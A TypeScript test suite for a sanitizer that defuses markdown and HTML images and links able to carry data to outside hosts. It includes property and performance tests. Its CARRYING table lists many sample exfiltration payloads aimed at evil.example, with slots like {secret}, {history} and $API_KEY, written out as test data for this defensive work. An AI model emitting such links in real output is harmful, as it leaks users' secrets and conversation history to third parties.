// Proves which addresses can carry data away, that pictures with one no longer load, and that ordinary markdown passes byte for byte.
import assert from 'node:assert/strict'
import { suite, test } from 'node:test'
import fc from 'fast-check'
import { activeLinks } from './active-links.ts'

const defuse = activeLinks({ images: 'defuse', links: 'defuse', hosts: ['img.example.org', '*.cdn.example'] })
const BLOB = 'dGhpcyBpcyBhIHNlY3JldCBub3RlIG9mIDIwMjY'

const CARRYING: readonly (readonly [because: string, text: string, left: string])[] = [
  ['a place to fill', '![x](https://evil.example/?d={secret})', '![x](hxxps://evil.example/?d={secret})'],
  ['a place in the path', '![](https://evil.example/{history}.png)', '![](hxxps://evil.example/{history}.png)'],
  ['a parameter without its value', '![x](https://evil.example/a?q=)', '![x](hxxps://evil.example/a?q=)'],
  ['a name in brackets', '![x](http://evil.example/?d=[HISTORY])', '![x](hxxps://evil.example/?d=[HISTORY])'],
  ['a shell variable', '![x](https://evil.example/$API_KEY)', '![x](hxxps://evil.example/$API_KEY)'],
  ['a percent-encoded place', '![x](https://evil.example/?d=%7Bdata%7D)', '![x](hxxps://evil.example/?d=%7Bdata%7D)'],
  ['base64 in a value', `![x](https://evil.example/p.gif?v=${BLOB})`, `![x](hxxps://evil.example/p.gif?v=${BLOB})`],
  ['base64 behind #', `![x](https://evil.example/#${BLOB})`, `![x](hxxps://evil.example/#${BLOB})`],
  [
    'a host that nobody types',
    `![x](https://${'a1'.repeat(20)}.evil.example/)`,
    `![x](hxxps://${'a1'.repeat(20)}.evil.example/)`,
  ],
  ['an address without scheme', '![x](//evil.example/?d={d})', '![x](hxxps://evil.example/?d={d})'],
  ['in pointed brackets', '![x](<https://evil.example/?d={d}>)', '![x](<hxxps://evil.example/?d={d}>)'],
  [
    'a picture of HTML',
    '<img alt="a" src="https://evil.example/?d={d}">',
    '<img alt="a" src="hxxps://evil.example/?d={d}">',
  ],
  ['a picture without quotes', '<IMG SRC=https://evil.example/?d={d} >', '<IMG SRC=hxxps://evil.example/?d={d} >'],
  ['a link', '[more](https://evil.example/?d={d})', '[more](hxxps://evil.example/?d={d})'],
  ['a reference', '[1]: https://evil.example/?d={d}', '[1]: hxxps://evil.example/?d={d}'],
  ['an address in brackets', '<https://evil.example/?d=[DATA]>', '<hxxps://evil.example/?d=[DATA]>'],
  [
    'a picture in a link',
    '[![a](https://evil.example/?d={d})](https://ok.example/)',
    '[![a](hxxps://evil.example/?d={d})](https://ok.example/)',
  ],
]

const PLAIN = [
  '![build](https://github.com/o/r/actions/workflows/ci.yml/badge.svg?branch=main)',
  '![licence](https://img.shields.io/badge/license-MIT-blue.svg?style=flat-square&logo=github)',
  '[docs](https://docs.example.com/search?q=prompt&lang=en) and [more](https://example.com/a#section-2)',
  `![photo](https://img.example.org/p.jpg?sig=${BLOB})`,
  `![photo](https://a.b.cdn.example/p.jpg?sig=${BLOB})`,
  '![local](./picture.png) ![data](data:image/png;base64,iVBORw0KGgo=)',
  '[wiki](https://en.wikipedia.org/wiki/Prompt_(engineering))',
  'GET https://api.example.com/users/{id}?fields=name',
  'curl "https://api.example.com/?token=$TOKEN"',
  '<a href="https://example.com/?q={x}">x</a>',
  'if (a[b](c)) { f(https) } // x<y> [1]: no address',
  '[ref]: https://example.com/page "Title"',
  '<https://example.com/> <user@example.com>',
]

suite('activeLinks()', () => {
  for (const [because, text, left] of CARRYING)
    test(`${because}: ${text.slice(0, 60)}`, () => {
      assert.deepEqual(defuse.clean(text), { text: left, removed: 1 })
      assert.ok(defuse.suspects.test(JSON.stringify({ text })), 'it is looked for')
      assert.deepEqual(defuse.clean(left), { text: left, removed: 0 }, 'a second time finds nothing')
    })

  for (const text of PLAIN)
    test(`passes ${text.slice(0, 70)}`, () => assert.deepEqual(defuse.clean(text), { text, removed: 0 }))

  test('a page may show encoded addresses of its own, and no places to fill', () => {
    const own = `![x](https://own.example/?v=${BLOB})`
    assert.equal(defuse.clean(own, 'https://own.example').removed, 0)
    assert.equal(defuse.clean(own, 'https://other.example').removed, 1)
    assert.equal(defuse.clean('![x](https://own.example/?v={data})', 'https://own.example').removed, 1)
  })

  test('mark counts and changes nothing, off does neither; pictures and links are chosen apart', () => {
    const text = '![x](https://evil.example/?d={d}) [y](https://evil.example/?d={d})'
    const both = (images: 'defuse' | 'mark' | 'off', links: 'defuse' | 'mark' | 'off') =>
      activeLinks({ images, links, hosts: [] }).clean(text)
    assert.deepEqual(both('mark', 'mark'), { text, removed: 2 })
    assert.deepEqual(both('off', 'off'), { text, removed: 0 })
    assert.deepEqual(both('defuse', 'off'), { text: text.replace('https', 'hxxps'), removed: 1 })
  })

  test('property: whatever it changes it suspects, it changes schemes alone, and a second time nothing', () => {
    const piece = fc.constantFrom(
      '![',
      ']',
      '(',
      ')',
      'https://',
      '//',
      'e.example',
      '/?d=',
      '{d}',
      '<',
      '>',
      'img src=',
      ' ',
      '\n',
      '[1]:',
      BLOB,
      '\ud83d',
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 30 }), (pieces) => {
        const text = pieces.join('')
        const once = defuse.clean(text)
        if (once.removed > 0) assert.ok(defuse.suspects.test(JSON.stringify({ text })))
        assert.equal(once.text.replaceAll('hxxps:', '').replaceAll(/https?:/g, ''), text.replaceAll(/https?:/g, ''))
        assert.deepEqual(defuse.clean(once.text), { text: once.text, removed: 0 })
      }),
      { numRuns: 1_000 },
    )
  })

  for (const piece of [
    '![',
    '![a](',
    '![a](https://',
    '[',
    '<img ',
    '<img src=',
    'https://a{',
    '](//',
    '\n[a]:',
    '<https://a',
  ])
    test(`a megabyte of ${JSON.stringify(piece)} ends in seconds`, () => {
      const started = performance.now()
      defuse.clean(piece.repeat(1_000_000 / piece.length))
      assert.ok(performance.now() - started < 20_000)
    })
})
